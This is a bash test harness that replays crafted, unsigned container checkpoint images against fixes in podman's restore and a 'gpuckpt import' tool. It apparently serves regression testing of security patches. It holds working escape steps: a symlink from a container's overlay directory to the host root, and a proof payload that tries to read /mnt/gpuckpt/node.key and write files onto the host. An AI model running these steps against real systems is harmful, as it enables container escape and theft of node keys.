#!/bin/bash
# attack30i: replay attack30g's unsigned image/spec attacks (edit30i.py MODE) against main's fixes:
# podman's own --import under restore:any (POLICY=any: containers.conf -> rt.sh -> trust/) and, for the CRIU-image
# ones, `gpuckpt import` under an archive: exception (itrust/). usage: replay.sh MODE...
set -u
D=/var/tmp/attack30i; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3; cd $D
PROOF=${PROOF:-'grep " /mnt " /proc/self/mountinfo; ls /mnt | head -5; cat /mnt/gpuckpt/node.key 2>&1 | head -c 40; echo; echo x > /mnt/attack30i-written; echo wrote=$?'}
for mode in "$@"; do
  arg=""
  if [ $mode = ctrlink ]; then
    podman rm -f -t0 attack30i-c1 >/dev/null 2>&1
    podman run -d --name attack30i-c1 --network none localhost/gpuckpt-test:latest sleep 600 >/dev/null
    CID=$($P $H/edit30i.py src.tar.zst /dev/null nosuchmode | cut -d' ' -f1)
    podman exec attack30i-c1 sh -c "mkdir -p /attack30i/overlay-containers; ln -s / /attack30i/overlay-containers/$CID"
    arg=$(podman inspect attack30i-c1 --format '{{.GraphDriver.Data.MergedDir}}')/attack30i
  fi
  [ -n "${KEEP:-}" ] ||   $P $H/edit30i.py src.tar.zst $mode.tar.zst $mode $arg
  POLICY=any $H/run30i.sh $mode.tar.zst "$PROOF"
  ls -la /etc/attack30i-written 2>/dev/null && { echo "HOST /etc WRITTEN ($mode)"; rm -f /etc/attack30i-written; }
  if [ "${IMPORT:-0}" = 1 ]; then
    podman rm -f -t 0 attack30i-src >/dev/null 2>&1
    echo "=== gpuckpt import $mode.tar.zst (itrust: archive:$D/)"
    GPUCKPT_CONFIG=$D/config.toml GPUCKPT_TRUST_DIR=$D/itrust timeout 200 gpuckpt import $mode.tar.zst 2>&1 | cut -c1-700; echo "gpuckpt import rc=${PIPESTATUS[0]}"
    podman exec attack30i-src sh -c "$PROOF" 2>&1; echo "exec rc=$?"
    ls -la /etc/attack30i-written 2>/dev/null && { echo "HOST /etc WRITTEN ($mode, gpuckpt import)"; rm -f /etc/attack30i-written; }
  fi
  podman rm -f -t 0 attack30i-src attack30i-c1 >/dev/null 2>&1
done
